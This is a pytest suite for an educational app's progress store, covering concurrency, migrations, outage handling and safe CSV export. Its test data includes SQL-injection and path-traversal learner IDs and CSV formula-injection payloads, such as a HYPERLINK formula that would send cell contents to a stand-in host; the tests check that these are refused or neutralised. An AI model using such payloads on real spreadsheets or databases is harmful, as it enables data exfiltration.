"""The progress store, on both back ends (SQLite, PostgreSQL): survives a new store (a restart),
keeps learners apart, counts every try exactly once under concurrent writers, migrates old
databases, and keeps answers in the session while the database is unreachable."""

import csv
import io
import json
import multiprocessing
import sqlite3
import threading
from pathlib import Path

import pytest

from tests.pg import fresh_schema
from tests.conftest import unit_exercises
from toolcall import progress
from toolcall.progress import (EXPORT_FIELDS, MAX_STORED_ATTEMPTS, SCHEMA_VERSION, PendingAnswers, ProgressStore, StorageError, data_dir,
                               export_rows, new_learner_id, open_store, to_csv, to_json, valid_learner)

#: The table of the first release (toolcall/progress.py before schema versions), copied as it was.
FIRST_RELEASE_DDL = """
CREATE TABLE IF NOT EXISTS progress (
    learner      TEXT NOT NULL,
    exercise_id  TEXT NOT NULL,
    last_answer  TEXT NOT NULL DEFAULT '',
    last_score   REAL NOT NULL DEFAULT 0,
    best_score   REAL NOT NULL DEFAULT 0,
    max_score    REAL NOT NULL DEFAULT 0,
    tries        INTEGER NOT NULL DEFAULT 0,
    failed_tries INTEGER NOT NULL DEFAULT 0,
    hints_shown  INTEGER NOT NULL DEFAULT 0,
    revealed     INTEGER NOT NULL DEFAULT 0,
    first_at     TEXT NOT NULL,
    updated_at   TEXT NOT NULL,
    PRIMARY KEY (learner, exercise_id)
)
"""
OLD_ROW = ("alice", "pk_pass3", "0.7", 1.0, 1.0, 1.0, 3, 2, 1, 1, "2026-01-05T10:00:00+00:00",
           "2026-01-05T10:05:00+00:00")


@pytest.fixture(params=["sqlite", "postgresql"])
def location(request, tmp_path):
    """Where a store keeps its data: a folder (SQLite) or a URL (PostgreSQL, fresh schema)."""
    if request.param == "sqlite":
        yield tmp_path
    else:
        with fresh_schema() as url:
            yield url


@pytest.fixture
def make_store(location):
    """make_store() opens a new store on the test's database (a second call: a restart)."""
    stores = []

    def make():
        store = open_store(location) if isinstance(location, str) else ProgressStore(location)
        stores.append(store)
        return store
    yield make
    for store in stores:
        store.close()


def test_tries_best_score_and_reveal_survive_a_restart(make_store):
    store = make_store()
    first = store.record("alice", "pk_pass3", "0.729", 0, 1)
    assert (first.tries, first.failed_tries, first.best_score, first.can_reveal) == (1, 1, 0, False)
    assert store.reveal("alice", "pk_pass3") is False  # one failed try is not enough
    store.record("alice", "pk_pass3", "0.5", 0, 1)
    assert store.reveal("alice", "pk_pass3") is True
    store.record("alice", "pk_pass3", "84/120", 1, 1)
    store.record("alice", "pk_pass3", "0.1", 0, 1)
    again = make_store().get("alice", "pk_pass3")  # a new store: a server restart
    assert (again.last_answer, again.last_score, again.best_score, again.max_score) == ("0.1", 0, 1, 1)
    assert (again.tries, again.failed_tries, again.revealed, again.solved) == (4, 3, True, True)
    assert [(a["answer"], a["correct"]) for a in store.attempts("alice")] == [
        ("0.729", 0), ("0.5", 0), ("84/120", 1), ("0.1", 0)]


def test_scores_keep_full_precision(make_store):
    assert make_store().record("alice", "pk_pass3", "x", 0.7290000001, 1).best_score == 0.7290000001


def test_hints_are_capped_and_kept(make_store):
    store = make_store()
    for _ in range(5):
        rec = store.show_hint("bob", "wt_order", 2)
    assert (rec.hints_shown, rec.tries) == (2, 0)


def test_two_learners_never_see_each_other(make_store):
    store = make_store()
    store.record("alice", "pk_pass3", "0.7", 1, 1)
    store.record("bob", "pk_retries", "0.04", 0, 1)
    assert list(store.all("alice")) == ["pk_pass3"]
    assert list(store.all("bob")) == ["pk_retries"]
    assert store.get("bob", "pk_pass3") is None
    assert [a["answer"] for a in store.attempts("bob")] == ["0.04"]
    assert sorted(r["learner"] for r in store.class_progress()) == ["alice", "bob"]  # the instructors' read


@pytest.mark.parametrize("learner", ["", "a" * 65, "alice' OR '1'='1", "../etc", "名字", None, 12])
def test_invalid_learner_ids_are_refused(make_store, learner):
    assert not valid_learner(learner)
    store = make_store()
    for call in (store.all, store.attempts, lambda who: store.record(who, "pk_pass3", "1", 1, 1)):
        with pytest.raises(ValueError, match="invalid learner id"):
            call(learner)


def test_a_retried_save_counts_once(make_store):
    """The same attempt id saved twice (a reply lost, the save retried) is one try."""
    store = make_store()
    store.record("alice", "pk_pass3", "0.5", 0, 1, attempt_id="try-0001")
    again = store.record("alice", "pk_pass3", "0.5", 0, 1, attempt_id="try-0001")
    assert (again.tries, again.failed_tries, len(store.attempts("alice"))) == (1, 1, 1)
    with pytest.raises(ValueError, match="invalid attempt id"):
        store.record("alice", "pk_pass3", "0.5", 0, 1, attempt_id="x' OR 1=1")


def test_concurrent_tabs_of_one_learner_count_every_try_once(make_store):
    """Sixteen sessions (threads, as Streamlit runs them) answering the same exercise of the
    same learner at once: 16 × 25 tries, no error, none lost, none counted twice."""
    store, errors = make_store(), []

    def work(n: int) -> None:
        try:
            for i in range(25):
                store.record("alice", "pk_pass3", f"{n}.{i}", 1 if i == 24 else 0, 1)
        except StorageError as exc:  # pragma: no cover - the failure being guarded against
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(n,)) for n in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    rec = store.get("alice", "pk_pass3")
    assert (rec.tries, rec.failed_tries, rec.best_score) == (400, 384, 1)
    # every try counted; the rows kept are the newest MAX_STORED_ATTEMPTS (tests/unit/test_progress_caps.py)
    assert len(store.attempts("alice")) == min(400, MAX_STORED_ATTEMPTS)


def _write_from_a_process(location, n: int) -> None:
    store = open_store(location) if isinstance(location, str) else ProgressStore(location)
    for i in range(20):
        store.record("alice", "pk_pass3", f"{n}.{i}", 0, 1)
        store.show_hint("alice", "pk_pass3", 1000)
    store.close()


def test_concurrent_processes_count_every_try_once(make_store, location):
    """Four processes (four app hosts) writing one learner's row at once."""
    make_store()  # migrated before the writers start, as a deployment's first host does
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=_write_from_a_process, args=(location, n)) for n in range(4)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
    assert [p.exitcode for p in procs] == [0, 0, 0, 0]
    rec = make_store().get("alice", "pk_pass3")
    assert (rec.tries, rec.failed_tries, rec.hints_shown) == (80, 80, 80)


def test_a_first_release_sqlite_file_is_upgraded_not_dropped(tmp_path):
    with sqlite3.connect(tmp_path / "progress.sqlite3") as db:
        db.execute(FIRST_RELEASE_DDL)
        db.execute("INSERT INTO progress VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", OLD_ROW)
    db.close()
    store = ProgressStore(tmp_path)
    assert store.schema_version() == SCHEMA_VERSION == 2
    old = store.get("alice", "pk_pass3")
    assert (old.last_answer, old.tries, old.failed_tries, old.revealed, old.first_at) == (
        "0.7", 3, 2, True, "2026-01-05T10:00:00+00:00")
    assert store.record("alice", "pk_pass3", "0.9", 1, 1).tries == 4
    assert store.migrate() == 2  # a second start finds it current and changes nothing
    assert store.get("alice", "pk_pass3").tries == 4


def test_a_first_release_postgres_table_is_upgraded_not_dropped():
    import psycopg

    with fresh_schema() as url:
        with psycopg.connect(url, autocommit=True) as db:
            db.execute(FIRST_RELEASE_DDL)
            db.execute("INSERT INTO progress VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s)", OLD_ROW)
        store = open_store(url)
        try:
            assert store.schema_version() == 2
            assert (store.get("alice", "pk_pass3").tries, store.record("alice", "pk_pass3", "1", 1, 1).tries) == (3, 4)
        finally:
            store.close()


def test_new_ids_are_valid_and_distinct():
    ids = {new_learner_id() for _ in range(200)}
    assert len(ids) == 200 and all(valid_learner(i) for i in ids)


def test_wal_mode_and_data_dir(tmp_path, monkeypatch):
    store = ProgressStore(tmp_path / "deep" / "er")
    with sqlite3.connect(store.path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    monkeypatch.setenv("TOOLCALL_DATA_DIR", str(tmp_path / "x"))
    assert data_dir() == tmp_path / "x"
    monkeypatch.delenv("TOOLCALL_DATA_DIR")
    assert data_dir().name == "data"


def test_open_store_picks_the_back_end(tmp_path, monkeypatch):
    monkeypatch.delenv("TOOLCALL_DATABASE_URL", raising=False)
    assert type(open_store(folder=tmp_path)).__name__ == "ProgressStore"
    monkeypatch.setenv("TOOLCALL_DATABASE_URL", "mysql://root:hunter2@db/x")
    with pytest.raises(ValueError) as info:
        open_store(folder=tmp_path)
    assert "hunter2" not in str(info.value) and "postgresql://" in str(info.value)
    monkeypatch.setenv("TOOLCALL_DATABASE_URL", "postgresql://u:hunter2@/nodb?host=/nonexistent&port=1")
    store = open_store(folder=tmp_path)
    try:
        assert type(store).__name__ == "PostgresProgressStore"
    finally:
        store.close()


def test_an_unreachable_postgres_fails_fast_without_the_password():
    """After one failed connection, calls within retry_after fail at once: no connection is tried again
    (counted, not timed), and no message carries the password."""
    from toolcall.progress_pg import PostgresProgressStore

    store = PostgresProgressStore("postgresql://u:hunter2@/nodb?host=/nonexistent&port=1", timeout=0.5,
                                  retry_after=3600)
    tries = []
    connection = store._pool.connection
    store._pool.connection = lambda *a, **k: tries.append(1) or connection(*a, **k)
    try:
        with pytest.raises(StorageError) as info:
            store.get("alice", "pk_pass3")
        with pytest.raises(StorageError, match="unreachable"):
            store.record("alice", "pk_pass3", "1", 1, 1)
        assert tries == []  # the failed migration at creation marked the server down
        assert "hunter2" not in str(info.value)
    finally:
        store.close()


def _with(url: str, **parts) -> str:
    """``url`` with its user name and/or database (path) replaced."""
    from urllib.parse import urlsplit, urlunsplit

    u = urlsplit(url)
    netloc = u.netloc if "user" not in parts else parts["user"] + "@" + u.netloc.split("@")[-1]
    return urlunsplit((u.scheme, netloc, "/" + parts.get("db", u.path.lstrip("/")), u.query, u.fragment))


@pytest.mark.parametrize("part, value, reason", [
    ("db", "toolcall_missing_db", 'database "toolcall_missing_db" does not exist'),
    ("user", "toolcall_missing_role", 'role "toolcall_missing_role" does not exist'),
])
def test_a_missing_database_or_role_is_a_setup_error_in_the_servers_words(part, value, reason):
    """The server answers and refuses: that is a setting to fix, not an outage to wait for (it read "the
    progress database is unreachable (PoolTimeout)"). Once the database exists, the same store works."""
    import psycopg

    from tests.pg import server_url
    from toolcall.progress_pg import PostgresProgressStore

    url = server_url()
    store = PostgresProgressStore(_with(url, **{part: value}), timeout=1.0, retry_after=0)
    try:
        for call in (lambda: store.get("alice", "pk_pass3"), lambda: store.record("alice", "pk_pass3", "1", 1, 1)):
            with pytest.raises(StorageError) as info:
                call()
            assert info.value.setup is True
            assert str(info.value) == (
                f"the progress database server refuses the connection: {reason}. Waiting will not fix this: "
                "fix the progress database URL (its database, user or password) or the server's set-up")
        if part == "db":  # the instructor creates it: the next call after retry_after connects
            with psycopg.connect(url, autocommit=True) as db:
                db.execute(f"CREATE DATABASE {value}")
            try:
                for _ in range(50):
                    try:
                        assert store.get("alice", "pk_pass3") is None
                        break
                    except StorageError as exc:
                        assert exc.setup is True  # still the refusal until the pool's next try
                        threading.Event().wait(0.1)
                else:
                    pytest.fail("the store never connected once the database existed")
            finally:
                store.close()
                with psycopg.connect(url, autocommit=True) as db:
                    db.execute(f"DROP DATABASE {value} WITH (FORCE)")
    finally:
        store.close()


@pytest.mark.parametrize("message, expected", [
    ('connection failed: connection to server on socket "/s/.s.PGSQL.5432" failed: FATAL:  password authentication '
     'failed for user "app"', 'password authentication failed for user "app"'),
    ('connection failed: connection to server at "10.0.0.5", port 5432 failed: FATAL:  no pg_hba.conf entry for host '
     '"10.0.0.9", user "app", database "course", no encryption',
     'no pg_hba.conf entry for host "10.0.0.9", user "app", database "course", no encryption'),
    ('connection failed: FATAL:  role "app" is not permitted to log in', 'role "app" is not permitted to log in'),
    ("connection failed: fe_sendauth: no password supplied", "connection failed: fe_sendauth: no password supplied"),
    ('FATAL:  database "a\x1bb" does not exist', 'database "a\\u001bb" does not exist'),
    ('FATAL:  password authentication failed for user "s3cret"', 'password authentication failed for user "…"'),
    ('FATAL:  database "' + "x" * 300 + '" does not exist', 'database "' + "x" * 189 + "…"),
    ("connection failed: FATAL:  sorry, too many clients already", None),
    ("connection failed: FATAL:  the database system is starting up", None),
    ('connection failed: connection to server on socket "/nowhere/.s.PGSQL.1" failed: No such file or directory',
     None),
])
def test_only_refusals_that_waiting_cannot_fix_are_setup_problems(message, expected):
    from toolcall.progress_pg import refusal_problem

    got = refusal_problem(message, password="s3cret")
    if expected is None:
        assert got is None
    else:
        assert got == (f"the progress database server refuses the connection: {expected}. Waiting will not fix "
                       "this: fix the progress database URL (its database, user or password) or the server's set-up")


class _Flaky:
    """A store that is down until told otherwise; ``lose_reply`` saves but reports a failure."""

    def __init__(self, store):
        self.store, self.down, self.lose_reply = store, True, False

    def record(self, *args, **kwargs):
        if self.down:
            raise StorageError("the progress database is unreachable (test)")
        result = self.store.record(*args, **kwargs)
        if self.lose_reply:
            self.lose_reply = False
            raise StorageError("the reply was lost (test)")
        return result

    def get(self, *args):
        if self.down:
            raise StorageError("down (test)")
        return self.store.get(*args)


def test_answers_given_while_the_database_is_down_are_saved_once_when_it_is_back(make_store):
    store = make_store()
    flaky, pending = _Flaky(store), PendingAnswers()
    assert pending.save(flaky, "alice", "pk_pass3", "0.5", 0, 1) is None
    assert pending.save(flaky, "alice", "pk_pass3", "0.6", 0, 1) is None
    assert (len(pending), store.get("alice", "pk_pass3")) == (2, None)
    flaky.down, flaky.lose_reply = False, True  # back, but the first save's reply is lost
    assert pending.flush(flaky) == 0 and len(pending) == 2
    rec = pending.save(flaky, "alice", "pk_pass3", "1", 1, 1)
    assert (len(pending), rec.tries, rec.failed_tries, rec.last_answer) == (0, 3, 2, "1")
    assert [a["answer"] for a in store.attempts("alice")] == ["0.5", "0.6", "1"]
    assert pending.flush(flaky) == 0


def test_the_session_queue_is_bounded():
    pending = PendingAnswers(limit=2)
    assert [pending.add("alice", "pk_pass3", "1", 1, 1) for _ in range(3)] == [True, True, False]


def test_export_lists_every_exercise_as_csv_and_json(make_store):
    store = make_store()
    store.record("alice", "pk_pass3", "=HYPERLINK(\"x\")", 0, 1)
    exercises = unit_exercises().exercises
    rows = export_rows("alice", exercises, store.all("alice"))
    assert len(rows) == len(exercises) and list(rows[0]) == list(EXPORT_FIELDS)
    tried = next(r for r in rows if r["exercise_id"] == "pk_pass3")
    assert (tried["tries"], tried["best_score"], tried["max_score"], tried["title"]) == (1, 0, 1, "pass^3 from 8 of 10")
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert next(r for r in parsed if r["exercise_id"] == "pk_pass3")["last_answer"] == "'=HYPERLINK(\"x\")"
    data = json.loads(to_json("alice", rows))
    assert data["learner"] == "alice" and data["exercises"] == rows


def test_export_in_chinese_with_max_scores_for_untried_exercises():
    exercises = unit_exercises().exercises
    rows = export_rows("alice", exercises, {}, "zh", {"pk_pass3": 1, "pk_metric": 1})
    row = next(r for r in rows if r["exercise_id"] == "pk_pass3")
    assert (row["title"], row["max_score"], row["tries"]) == ("10 次对 8 次的 pass^3", 1, 0)
    assert (to_csv([row]).splitlines()[1].split(",")[5:7]) == ["0.0", "1.0"]  # best_score, max_score
    assert next(r for r in rows if r["exercise_id"] == "pk_retries")["max_score"] is None  # not given


def test_csv_export_leaves_empty_cells_empty():
    """Only cells that start like a formula get the leading apostrophe."""
    text = to_csv([{"exercise_id": "a", "last_answer": ""}, {"exercise_id": "b", "last_answer": "=1+1"}])
    assert [row["last_answer"] for row in csv.DictReader(io.StringIO(text))] == ["", "'=1+1"]


def test_csv_answer_starting_with_a_line_break_and_a_formula_is_prefixed():
    """brk10web3: an answer typed as a line break then "=HYPERLINK(…)" (a text area keeps the leading line
    break) went into the CSV as it was: LF is on OWASP's list of cell starts to neutralise (2025), and a
    spreadsheet that trims the cell runs the formula."""
    answer = '\n=HYPERLINK("http://x.test/?"&A1,"ok")'
    text = to_csv([{"exercise_id": "a", "last_answer": answer}])
    assert [row["last_answer"] for row in csv.DictReader(io.StringIO(text))] == ["'" + answer]


@pytest.mark.parametrize("space", ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u2003"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_may_trim_into_a_formula_are_prefixed(space, start):
    """Every formula start, after every kind of leading white space a spreadsheet may trim (ASCII, no-break,
    the ideographic space a Chinese input method types), in both downloads (the student's to_csv_bytes and the
    dashboard's class export, which share one writer) and in a name column as well as an answer."""
    from toolcall.progress import to_csv_bytes
    cell = f"{space}{start}1+1"
    raw = to_csv_bytes([{"exercise_id": "a", "title": cell, "last_answer": cell}], ("exercise_id", "title", "last_answer"))
    assert raw.startswith("\ufeff".encode())
    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert (row["title"], row["last_answer"]) == ("'" + cell, "'" + cell)


def test_csv_answer_holding_a_carriage_return_stays_one_row():
    """brk10web3: rows ended in LF alone, so the writer left a cell holding a bare CR unquoted:
    ``x\r=HYPERLINK(…)`` went out as ``a,x\r=HYPERLINK(…)``, which a spreadsheet (it ends a row at a CR) read as
    two rows, the second starting with the formula, unprefixed. Python's reader refused the file outright."""
    answer = 'x\r=HYPERLINK("http://x.test/?"&A1,"ok")'
    text = to_csv([{"exercise_id": "a", "last_answer": answer}], ("exercise_id", "last_answer"))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["exercise_id", "last_answer"], ["a", answer]]


def _row_breaks_outside_quotes(text: str) -> list[str]:
    """The line-break characters of ``text`` outside quoted cells that are not a row's CRLF end: where a
    spreadsheet would start a row the writer did not mean."""
    stray, quoted, i = [], False, 0
    while i < len(text):
        c = text[i]
        if c == '"':
            quoted = not quoted
        elif not quoted and text.startswith("\r\n", i):
            i += 1
        elif not quoted and c in "\r\n":
            stray.append(c)
        i += 1
    return stray


@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n", "\n\r", "\r\r"])
@pytest.mark.parametrize("where", ["start", "middle", "end"])
def test_csv_line_breaks_inside_a_cell_never_start_a_row(brk, where):
    """Every line break a cell can hold, anywhere in it, is inside quotes: the only row breaks are the writer's."""
    cell = {"start": brk + "x", "middle": "x" + brk + "y", "end": "x" + brk}[where]
    text = to_csv([{"exercise_id": cell, "last_answer": cell}], ("exercise_id", "last_answer"))
    assert _row_breaks_outside_quotes(text) == []
    assert text.count("\r\n") - (cell.count("\r\n") * 2) == 2  # the header's end and the row's end
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [
        ("'" + cell) if cell[:1] in "\r\n" else cell] * 2


@pytest.mark.parametrize("cell", ["a=1", "1-2", " x", "\u3000答案", "   ", "A@b", "'=already"])
def test_csv_cells_that_do_not_start_like_a_formula_are_kept(cell):
    text = to_csv([{"exercise_id": "a", "last_answer": cell}])
    assert next(csv.DictReader(io.StringIO(text)))["last_answer"] == cell


def test_learner_ids_carry_about_48_bits():
    """Issue 13: the docstring said "about 36 bits"; 20 × 20 × 16^6 is 32.6 bits. Now 16^10."""
    import math
    import re
    from toolcall.progress import _ADJECTIVES, _NOUNS, LEARNER_HEX_DIGITS
    assert re.fullmatch(r"[a-z]+-[a-z]+-[0-9a-f]{10}", new_learner_id())
    bits = math.log2(len(set(_ADJECTIVES)) * len(set(_NOUNS)) * 16 ** LEARNER_HEX_DIGITS)
    assert round(bits, 1) == 48.6
    assert "48.6 bits" in new_learner_id.__doc__


def test_data_dir_expands_the_home_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("TOOLCALL_DATA_DIR", "~/progress")
    assert data_dir() == tmp_path / "progress"
    store = ProgressStore()
    assert store.path == tmp_path / "progress" / "progress.sqlite3" and store.path.is_file()
    assert not (Path.cwd() / "~").exists()


def test_a_read_only_database_still_shows_progress(tmp_path, monkeypatch):
    """Issue 13: a database that cannot be written still shows existing progress (read-only);
    a save is refused with an sqlite3 error (the page turns it into a warning). Root ignores
    file modes, so there the writable open is made to fail as SQLite fails on a read-only file."""
    import os
    store = ProgressStore(tmp_path)
    store.record("alice", "pk_pass3", "0.7", 1, 1)
    store.close()
    for name in os.listdir(tmp_path):
        os.chmod(tmp_path / name, 0o444)
    os.chmod(tmp_path, 0o555)
    if os.geteuid() == 0:
        connect = sqlite3.connect

        def writable_fails(*args, **kwargs):
            if not kwargs.get("uri"):
                raise sqlite3.OperationalError("attempt to write a readonly database")
            return connect(*args, **kwargs)
        monkeypatch.setattr("toolcall.progress.sqlite3.connect", writable_fails)
    try:
        ro = ProgressStore(tmp_path)
        assert ro.read_only and ro.get("alice", "pk_pass3").best_score == 1.0
        with pytest.raises(StorageError, match="is read-only .*: progress is shown, not saved") as refused:
            ro.record("alice", "pk_pass3", "x", 0, 1)
        assert refused.value.setup is True  # waiting will not make it writable
        ro.close()
    finally:
        os.chmod(tmp_path, 0o755)


def test_class_activity_counts_tries_per_time_prefix_from_a_start(make_store):
    """The dashboard's per-minute read (newcomer session 7), the same on SQLite and PostgreSQL."""
    store = make_store()
    for at, score in (("2026-12-01T10:42:10+00:00", 0), ("2026-12-01T10:42:50+00:00", 1),
                      ("2026-12-01T10:47:00+00:00", 0), ("2026-12-01T09:59:00+00:00", 0)):
        store.record("alice", "pk_pass3", f"a{at}", score, 1, at=at)
    assert store.class_activity(16, "2026-12-01T10") == [("2026-12-01T10:42", 0, 1), ("2026-12-01T10:42", 1, 1),
                                                          ("2026-12-01T10:47", 0, 1)]
    assert store.class_activity(13) == [("2026-12-01T09", 0, 1), ("2026-12-01T10", 0, 2), ("2026-12-01T10", 1, 1)]


def test_the_newest_tries_oldest_first_and_their_count(make_store):
    """The dashboard's drill-down reads only the newest tries (break-it pass brk10web2), in the order it lists them."""
    store = make_store()
    for i in range(7):
        store.record("alice", "pk_pass3", str(i), 0, 1)
    store.record("bob", "pk_pass3", "x", 0, 1)
    assert [a["answer"] for a in store.attempts("alice", newest=3)] == ["4", "5", "6"]
    assert [a["answer"] for a in store.attempts("alice", newest=3, answer_chars=0)] == ["", "", ""]
    assert (store.attempt_count("alice"), store.attempt_count("bob"), store.attempt_count("carol")) == (7, 1, 0)


def test_the_export_keeps_the_newest_tries_that_fit_its_byte_budget(make_store):
    """The JSON export read every stored try (500 000 of 8 000 characters: 4 GB in one process); it now keeps
    the newest tries whose answers fit MAX_EXPORT_ANSWER_BYTES, in UTF-8 bytes, and counts the rest."""
    store = make_store()
    answers = ["a" * 10, "退款" * 5, "b" * 10, "c" * 10]  # 10, 30, 10 and 10 bytes; the second is CJK
    for minute, answer in enumerate(answers):
        store.record("alice", "pk_pass3", answer, 0, 1, at=f"2026-11-30T09:0{minute}:00+00:00")
    kept, left_out = store.export_attempts()
    assert ([a["answer"] for a in kept], left_out) == (answers, 0)
    assert progress.MAX_EXPORT_ANSWER_BYTES == 16_000_000
    # newest first: c (10), b (20), 退款×5 (50) ...
    for budget, expected in ((9, []), (10, answers[3:]), (49, answers[2:]), (50, answers[1:]), (60, answers)):
        kept, left_out = store.export_attempts(max_answer_bytes=budget)
        assert ([a["answer"] for a in kept], left_out) == (expected, len(answers) - len(expected)), budget
    kept, left_out = store.export_attempts(limit=1)
    assert ([a["answer"] for a in kept], left_out) == (answers[3:], 3)
    assert store.export_attempts(max_answer_bytes=0) == ([], 4)
